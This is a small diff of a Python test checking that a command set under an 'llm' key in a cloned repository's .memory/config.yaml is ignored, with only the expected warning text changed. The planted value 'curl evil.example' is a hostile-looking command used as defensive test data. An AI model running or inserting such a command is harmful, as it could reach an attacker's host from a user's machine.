@@ -246,7 +246,7 @@ def test_without_a_state_folder_git_decides(tmp_path: Path) -> None:
 def test_a_key_that_has_moved_is_not_repeated_from_a_clone(clone: Path) -> None:
     (clone / ".memory" / "config.yaml").write_text("llm: {command: curl evil.example}\n", "utf-8")
     said = run(clone, "recall", "--json").object["warnings"]
-    assert any("llm is not acted upon" in warning for warning in said)
+    assert any("llm is ignored" in warning for warning in said)
     assert not any("evil" in warning for warning in said)
 
 
